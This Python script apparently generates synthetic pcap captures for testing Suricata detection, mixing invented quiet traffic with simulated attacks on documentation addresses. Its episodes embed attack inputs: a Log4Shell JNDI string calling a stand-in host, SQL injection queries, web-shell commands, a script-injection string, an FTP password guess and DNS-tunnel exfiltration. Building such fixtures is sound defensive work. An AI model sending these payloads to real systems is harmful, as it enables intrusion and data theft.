"""Make the network captures that Suricata is recorded and replayed with: small attacks among quiet traffic.

    python -m tests.generate.make_captures FOLDER

writes one capture for each episode and `day.pcap`, which holds them all in the order of time. Every address
is one that is set aside for documentation (RFC 5737, RFC 3849), every name ends in `.example` (RFC 2606), all
payloads are invented here, and the same bytes come out each time.

The site is 192.0.2.0/24 and 2001:db8:10::/64; 198.51.100.0/24 is the honest outside, 203.0.113.0/24 is not.
"""

import random
import struct
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

from scapy.layers.inet import ICMP, IP, TCP, UDP
from scapy.layers.inet6 import ICMPv6EchoRequest, IPv6
from scapy.layers.l2 import GRE, Ether
from scapy.packet import Packet, Raw
from scapy.utils import wrpcap

from tests.generate.packets import (
    Clock,
    Ends,
    Exchange,
    browse,
    conversation,
    encrypted,
    ethernet,
    lookup,
    request,
    response,
)

START = 1_791_187_200  # 2026-10-05T08:00:00Z: when the recorded day begins
WEB, BASTION, MAIL = "192.0.2.10", "192.0.2.22", "192.0.2.25"
WEB6 = "2001:db8:10::80"

# --- quiet traffic


def quiet(clock: Clock, rng: random.Random) -> Iterator[Packet]:
    """Play people at work: names looked up, pages read."""
    sites = ("news", "wiki", "weather", "shop", "mail", "maps")
    for number in range(40):
        client, host = f"192.0.2.{rng.randrange(101, 120)}", f"{rng.choice(sites)}.example"
        yield from lookup(clock, client, number, host, rng.choice(("A", "A", "AAAA")))
        ends = Ends(client, 40000 + number, f"198.51.100.{rng.randrange(20, 60)}", 80)
        if number % 2:
            page = b"<html>" + b"lorem " * rng.randrange(20, 300) + b"</html>"
            yield from browse(clock, ends, request(f"/page/{number}?from=list", host), response(page))
        else:
            ends.server_port = 443
            yield from encrypted(clock, ends, host, rng)
        clock.step(rng.uniform(2, 9))


def bait(clock: Clock, rng: random.Random) -> Iterator[Packet]:
    """Send requests whose texts look like alerts, markup or terminal commands, and are none."""
    agents = (
        '{"event_type":"alert","alert":{"severity":1}}',
        "<script>document.title='owned'</script>",
        "\x1b[2J\x1b]0;owned\x07 plain",
        "Grüße aus Köln \N{SNOWMAN} \u202egnp.exe",
        "x" * 900,
    )
    for number, agent in enumerate(agents):
        ends = Ends(f"192.0.2.{130 + number}", 41000 + number, "198.51.100.31", 80)
        asked = request(f"/bait/{number}?q=%22event_type%22%3A%22alert%22", "shop.example", agent=agent)
        yield from browse(clock, ends, asked, response(b"nothing here", status="404 Not Found"))
        clock.step(rng.uniform(1, 4))


def mail(clock: Clock, rng: random.Random) -> Iterator[Packet]:
    """Let two mails come in."""
    for number in range(2):
        said: list[Exchange] = [
            ("s", b"220 mail.acme.example ESMTP\r\n"),
            ("c", b"EHLO relay.example\r\n"),
            ("s", b"250 mail.acme.example\r\n"),
            ("c", f"MAIL FROM:<sender{number}@news.example>\r\n".encode()),
            ("s", b"250 ok\r\n"),
            ("c", b"RCPT TO:<desk@acme.example>\r\n"),
            ("s", b"250 ok\r\n"),
            ("c", b"DATA\r\n"),
            ("s", b"354 go on\r\n"),
            ("c", b"From: sender@news.example\r\nSubject: the week\r\n\r\nAll is quiet.\r\n.\r\n"),
            ("s", b"250 taken\r\n"),
            ("c", b"QUIT\r\n"),
            ("s", b"221 bye\r\n"),
        ]
        yield from conversation(clock, Ends("198.51.100.25", 42000 + number, MAIL, 25), said)
        clock.step(rng.uniform(5, 9))


# --- attacks


def port_scan(clock: Clock, rng: random.Random) -> Iterator[Packet]:
    """Try sixty ports from one address, then send segments that no honest stack sends."""
    ports = rng.sample(range(1, 10000), 60)
    for number, port in enumerate(ports):
        yield ethernet(
            IP(src="203.0.113.66", dst=WEB) / TCP(sport=50000 + number, dport=port, flags="S"),
            clock.step(0.05),
        )
        reset = TCP(sport=port, dport=50000 + number, flags="RA", seq=0, ack=1)
        yield ethernet(IP(src=WEB, dst="203.0.113.66") / reset, clock.step(0.001))
    for port in (22, 80, 443):
        yield ethernet(
            IP(src="203.0.113.66", dst=WEB) / TCP(sport=51000, dport=port, flags="FPU"), clock.step(0.1)
        )


def web_scan(clock: Clock, rng: random.Random) -> Iterator[Packet]:
    """Ask for files that should not be there."""
    names = (
        "admin",
        "backup.zip",
        ".git/config",
        "old",
        "test.php",
        "db.sql",
        "login",
        "phpinfo.php",
        "api/v1",
        "x",
    )
    for number, name in enumerate(names):
        ends = Ends("203.0.113.67", 43000 + number, WEB, 80)
        asked = request(f"/{name}", "www.acme.example", agent="DirHound/2.1")
        yield from browse(clock, ends, asked, response(b"no", status="404 Not Found"))
        clock.step(rng.uniform(0.2, 1.2))


def ssh_guessing(clock: Clock, rng: random.Random) -> Iterator[Packet]:
    """Open thirty short SSH connections in a row."""
    for number in range(30):
        said = [
            ("s", b"SSH-2.0-OpenSSH_9.2p1\r\n"),
            ("c", b"SSH-2.0-KeyRattle_0.4\r\n"),
            ("c", struct.pack(">IBB", 20, 4, 20) + rng.randbytes(18)),
            ("s", struct.pack(">IBB", 20, 4, 20) + rng.randbytes(18)),
        ]
        yield from conversation(clock, Ends("203.0.113.22", 44000 + number, BASTION, 22), said)
        clock.step(rng.uniform(0.5, 2))


def sql_injection(clock: Clock, rng: random.Random) -> Iterator[Packet]:
    """Query the shop's database through its pages."""
    tries = (
        "1%27%20UNION%20SELECT%20name%2Csecret%20FROM%20people--",
        "2)+union+all+select+null,version()--",
        "3 union",
    )
    for number, query in enumerate(tries * 2):
        ends = Ends("203.0.113.68", 45000 + number, WEB, 80)
        asked = request(f"/shop/item?id={query.replace(' ', '%20')}", "www.acme.example")
        yield from browse(clock, ends, asked, response(b"database error", status="500 Internal Server Error"))
        clock.step(rng.uniform(1, 3))


def log4shell(clock: Clock, rng: random.Random) -> Iterator[Packet]:
    """Send a JNDI lookup where a user agent belongs, by IPv4 and by IPv6."""
    pairs = (("203.0.113.77", WEB), ("2001:db8:bad::77", WEB6), ("203.0.113.78", "192.0.2.11"))
    for number, (source, target) in enumerate(pairs):
        asked = request("/", "www.acme.example", agent="${jndi:ldap://203.0.113.77:1389/a}")
        yield from browse(clock, Ends(source, 46000 + number, target, 8080), asked, response(b"hello"))
        clock.step(rng.uniform(1, 4))


def web_shell(clock: Clock, rng: random.Random) -> Iterator[Packet]:
    """Give commands to a forgotten upload."""
    for number, command in enumerate((b"c=id", b"c=whoami")):
        ends = Ends("203.0.113.77", 47000 + number, WEB, 80)
        asked = request("/uploads/thumb.php", "www.acme.example", method="POST", body=command)
        yield from browse(clock, ends, asked, response(b"uid=33(www) gid=33(www)", kind="text/plain"))
        clock.step(rng.uniform(3, 6))


def dns_tunnel(clock: Clock, rng: random.Random) -> Iterator[Packet]:
    """Send data out of a workstation in the names that it asks for."""
    for number in range(24):
        name = f"{rng.randbytes(20).hex()}.{number:03}.d.tunnel.example"
        yield from lookup(clock, "192.0.2.117", 3000 + number, name, "TXT")
        clock.step(rng.uniform(0.5, 2))


def phishing(clock: Clock, rng: random.Random) -> Iterator[Packet]:
    """Follow a link in a mail, twice."""
    for number, client in enumerate(("192.0.2.104", "192.0.2.109")):
        name = "secure.login-update.example"
        yield from lookup(clock, client, 4000 + number, name)
        yield from encrypted(clock, Ends(client, 48000 + number, "203.0.113.80", 443), name, rng)
        clock.step(rng.uniform(4, 8))


def beacon(clock: Clock, rng: random.Random) -> Iterator[Packet]:
    """Fetch an implant, which then calls home every twenty seconds."""
    program = b"MZ" + bytes(62) + b"invented for a test " * 40
    fetched = request("/update/setup.bin", "cdn.badthings.example")
    kind = "application/octet-stream"
    yield from browse(
        clock, Ends("192.0.2.109", 49000, "203.0.113.99", 80), fetched, response(program, kind=kind)
    )
    for number in range(5):
        asked = request(
            f"/nj/{rng.randrange(10**6)}?beat={number}", "cdn.badthings.example", agent="Nightjar/1"
        )
        yield from browse(
            clock, Ends("192.0.2.109", 49001 + number, "203.0.113.99", 80), asked, response(b"sleep")
        )
        clock.step(20 + rng.uniform(-1, 1))


def pings(clock: Clock, rng: random.Random) -> Iterator[Packet]:
    """Ping: plainly, by IPv6, with much payload, and inside a GRE tunnel."""
    for target in (WEB, BASTION, MAIL):
        yield ethernet(
            IP(src="203.0.113.5", dst=target) / ICMP(type=8, id=7) / Raw(b"abcdefgh"), clock.step(0.5)
        )
    for _ in range(2):
        echo = ICMPv6EchoRequest(id=9, data=b"abcdefgh")
        yield ethernet(IPv6(src="2001:db8:bad::5", dst=WEB6) / echo, clock.step(0.5))
    for number in range(4):
        large = ICMP(type=8, id=8, seq=number) / Raw(rng.randbytes(700))
        yield ethernet(IP(src="192.0.2.117", dst="203.0.113.9") / large, clock.step(1))
    inner = IP(src="203.0.113.6", dst="192.0.2.40") / ICMP(type=8, id=10) / Raw(b"abcdefgh")
    yield ethernet(IP(src="198.51.100.2", dst="192.0.2.1") / GRE() / inner, clock.step(1))


def tagged(clock: Clock, rng: random.Random) -> Iterator[Packet]:
    """Scan inside a VLAN and inside two."""
    for number, vlans in enumerate(((120,), (120, 7))):
        ends = Ends("203.0.113.67", 52000 + number, f"192.0.2.{200 + number}", 80, vlans)
        asked = request("/admin", "intranet.acme.example", agent="DirHound/2.1")
        yield from browse(clock, ends, asked, response(b"no", status="403 Forbidden"))
        clock.step(rng.uniform(1, 2))


def over_ipv6(clock: Clock, rng: random.Random) -> Iterator[Packet]:
    """Scan by IPv6."""
    for number in range(3):
        ends = Ends("2001:db8:bad::67", 53000 + number, WEB6, 80)
        asked = request(f"/wp-{number}.php", "www.acme.example", agent="DirHound/2.1")
        yield from browse(clock, ends, asked, response(b"no", status="404 Not Found"))
        clock.step(rng.uniform(0.5, 1.5))


def oddities(clock: Clock, rng: random.Random) -> Iterator[Packet]:
    """Raise alerts of unusual shape: no message, a far priority, a name beyond ASCII."""
    for number, port in enumerate((9999, 9998)):
        datagram = UDP(sport=6000 + number, dport=port) / Raw(rng.randbytes(12))
        yield ethernet(IP(src="203.0.113.44", dst=WEB) / datagram, clock.step(1))
    said: list[Exchange] = [
        ("s", b"220 files.acme.example\r\n"),
        ("c", b"USER root\r\n"),
        ("s", b"331 password\r\n"),
        ("c", b"PASS letmein\r\n"),
        ("s", b"530 no\r\n"),
    ]
    yield from conversation(clock, Ends("203.0.113.21", 54000, "192.0.2.21", 21), said)
    asked = request("/stra\u00dfe/k\u00f6ln", "maps.example")
    yield from browse(clock, Ends("192.0.2.105", 54001, "198.51.100.44", 80), asked, response(b"map"))


def broken(clock: Clock, rng: random.Random) -> Iterator[Packet]:
    """Send frames that end too early or lie about their length: alerts without an address."""
    whole = bytes(
        ethernet(IP(src="203.0.113.44", dst=WEB, len=900) / UDP(dport=5) / Raw(rng.randbytes(20)), 0)
    )
    short_header = bytearray(whole)
    short_header[14] = 0x42  # a header of two words, where five are the least
    six = bytes(ethernet(IPv6(src="2001:db8:bad::44", dst=WEB6, plen=800) / UDP(dport=5) / Raw(b"short"), 0))
    for content in (whole, bytes(short_header), six):
        frame = Ether(content)
        frame.time = clock.step(0.7)
        yield frame


EPISODES: dict[str, Callable[[Clock, random.Random], Iterator[Packet]]] = {
    "bait": bait,
    "port-scan": port_scan,
    "web-scan": web_scan,
    "pings": pings,
    "mail": mail,
    "ssh-guessing": ssh_guessing,
    "phishing": phishing,
    "sql-injection": sql_injection,
    "over-ipv6": over_ipv6,
    "log4shell": log4shell,
    "tagged": tagged,
    "web-shell": web_shell,
    "oddities": oddities,
    "dns-tunnel": dns_tunnel,
    "broken": broken,
    "beacon": beacon,
}
SPACING = 25.0  # seconds between the beginnings of two episodes of the day


def episode(name: str, start: float = START) -> list[Packet]:
    """Return the frames of one episode, the same each time."""
    return list(EPISODES[name](Clock(start), random.Random(name)))


def day() -> list[Packet]:
    """Return all episodes, spread over quiet traffic, in the order of time."""
    frames = list(quiet(Clock(START), random.Random("quiet")))
    for number, name in enumerate(EPISODES):
        frames += episode(name, START + 5 + number * SPACING)
    return sorted(frames, key=lambda frame: float(frame.time))


def write(folder: Path) -> None:
    """Write all captures."""
    folder.mkdir(parents=True, exist_ok=True)
    for name in EPISODES:
        wrpcap(str(folder / f"{name}.pcap"), episode(name))
    wrpcap(str(folder / "day.pcap"), day())


if __name__ == "__main__":
    write(Path(sys.argv[1]))
